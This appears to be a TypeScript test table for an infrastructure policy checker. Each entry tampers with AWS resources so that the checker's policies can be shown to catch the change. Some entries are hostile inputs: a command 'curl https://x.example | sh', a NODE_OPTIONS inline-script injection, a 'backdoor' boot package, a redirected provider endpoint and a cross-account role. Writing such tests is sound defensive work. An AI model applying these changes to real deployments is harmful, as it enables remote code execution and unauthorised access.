import { edit, set } from "../support/mutate.ts";
import type { Mutation } from "../support/table.ts";

const instance = "aws:ec2/instance:Instance";
const policies = ["properties-are-known"];

/** Properties that the program does not set, and values that say who a host is and what runs first. */
export const properties: readonly Mutation[] = [
  [
    "sender",
    "a route table has routes of its own",
    policies,
    set("aws:ec2/routeTable:RouteTable", { routes: [{ cidrBlock: "0.0.0.0/0", gatewayId: "igw-1" }] }),
  ],
  [
    "sender",
    "an instance is in a second security group",
    policies,
    edit(instance, (props) => props.vpcSecurityGroupIds.push("sg-2")),
  ],
  ["sender", "an instance has groups by name", policies, set(instance, { securityGroups: ["default"] })],
  ["sender", "an instance has another profile", policies, set(instance, { iamInstanceProfile: "administrators" })],
  ["sender", "an instance has another image", policies, set(instance, { ami: "ami-0123456789abcdef0" })],
  [
    "sender",
    "an instance has a second interface",
    policies,
    set(instance, { networkInterfaces: [{ deviceIndex: 1, networkInterfaceId: "eni-1" }] }),
  ],
  ["receiver", "an instance forwards", policies, set(instance, { sourceDestCheck: false })],
  ["sender", "an instance can be looked at by a console", policies, set(instance, { getPasswordData: true })],
  [
    "sender",
    "a profile carries another role",
    policies,
    set("aws:iam/instanceProfile:InstanceProfile", { role: "administrators" }),
  ],
  [
    "sender",
    "a secret has a replica",
    policies,
    set("aws:secretsmanager/secret:Secret", { replicas: [{ region: "us-east-1" }] }),
  ],
  ["sender", "a secret has a policy of its own", policies, set("aws:secretsmanager/secret:Secret", { policy: "{}" })],
  [
    "sender",
    "a bucket has rules of its own",
    policies,
    set("aws:s3/bucket:Bucket", { lifecycleRules: [{ enabled: true }] }),
  ],
  [
    "sender",
    "a bucket replicates",
    policies,
    set("aws:s3/bucket:Bucket", { replicationConfiguration: { role: "arn" } }),
  ],
  [
    "sender",
    "an object is anybody's to read",
    policies,
    set("aws:s3/bucketObjectv2:BucketObjectv2", { acl: "public-read" }),
  ],
  [
    "sender",
    "an object has an unknown key",
    policies,
    set("aws:s3/bucketObjectv2:BucketObjectv2", { key: "releases/sender/boot.sh" }, "sender-bootstrap"),
  ],
  [
    "sender",
    "the key lets its policy lock out",
    policies,
    set("aws:kms/key:Key", { bypassPolicyLockoutSafetyCheck: true }),
  ],
  ["sender", "the key is in many regions", policies, set("aws:kms/key:Key", { multiRegion: true })],
  ["sender", "the address is somebody's pool", policies, set("aws:ec2/eip:Eip", { publicIpv4Pool: "ipv4pool-ec2-1" })],
  [
    "sender",
    "the update runs another command",
    policies,
    set("command:local:Command", { create: "curl https://x.example | sh" }),
  ],
  [
    "sender",
    "the update's end runs a command",
    policies,
    set("command:local:Command", { delete: "curl https://x.example" }),
  ],
  [
    "sender",
    "the command has one more word in its environment",
    policies,
    set("command:local:Command", { "environment.NODE_OPTIONS": "--import data:text/javascript," }),
  ],
  [
    "receiver",
    "the balancer writes what it sees elsewhere",
    policies,
    set("aws:lb/loadBalancer:LoadBalancer", { accessLogs: { bucket: "theirs", enabled: true } }),
  ],
  [
    "receiver",
    "a balancer's listener forwards to two",
    policies,
    set("aws:lb/listener:Listener", { "defaultActions.0.forward": { targetGroups: [{ arn: "arn:theirs" }] } }),
  ],
  [
    "receiver",
    "the balancer checks the health of another way",
    policies,
    set("aws:lb/targetGroup:TargetGroup", { "healthCheck.matcher": "200-599" }),
  ],
  [
    "sender",
    "a request has one more name in its subject",
    policies,
    set("tls:index/certRequest:CertRequest", { "subject.serialNumber": "1" }),
  ],
  [
    "sender",
    "the provider has another endpoint",
    policies,
    edit("aws:s3/bucket:Bucket", (_, resource) => {
      if (resource.provider === undefined) throw new Error("no provider");
      resource.provider = {
        ...resource.provider,
        props: { ...resource.provider.props, endpoints: '[{"s3":"https://x.example"}]' },
      };
    }),
  ],
  [
    "sender",
    "the provider assumes another role",
    policies,
    edit("aws:s3/bucket:Bucket", (_, resource) => {
      if (resource.provider === undefined) throw new Error("no provider");
      const assumeRoles = '[{"roleArn":"arn:aws:iam::111111111111:role/other"}]';
      resource.provider = { ...resource.provider, props: { ...resource.provider.props, assumeRoles } };
    }),
  ],
  [
    "sender",
    "the endpoint speaks another protocol's addresses",
    policies,
    set("aws:ec2/vpcEndpoint:VpcEndpoint", { ipAddressType: "dualstack" }, "sender-ssm"),
  ],
  [
    "sender",
    "a security group of another account is allowed in",
    policies,
    set("aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule", {
      referencedSecurityGroupId: "333333333333/sg-0123456789abcdef0",
    }),
  ],
  [
    "sender",
    "the pointer is at an older release",
    ["pointer-is-the-release"],
    set(
      "aws:s3/bucketObjectv2:BucketObjectv2",
      { content: JSON.stringify({ formatVersion: 1, releaseId: "0".repeat(64) }) },
      "sender-current",
    ),
  ],
  [
    "sender",
    "the first boot installs an extra package",
    ["tools-are-pinned"],
    edit(
      "aws:s3/bucketObjectv2:BucketObjectv2",
      (props) => {
        const hash = "0".repeat(64);
        props.content = `backdoor ${hash} tools/backdoor/1/${hash}.deb\n${props.content}`;
      },
      "sender-bootstrap",
    ),
  ],
  [
    "sender",
    "user data runs a command at each boot",
    ["no-login"],
    edit(instance, (props) => {
      const text = Buffer.from(props.userDataBase64, "base64").toString();
      props.userDataBase64 = Buffer.from(`${text}bootcmd: [id]\n`).toString("base64");
    }),
  ],
  [
    "sender",
    "a network has addresses of IPv6",
    policies,
    set("aws:ec2/vpc:Vpc", { assignGeneratedIpv6CidrBlock: true }),
  ],
];
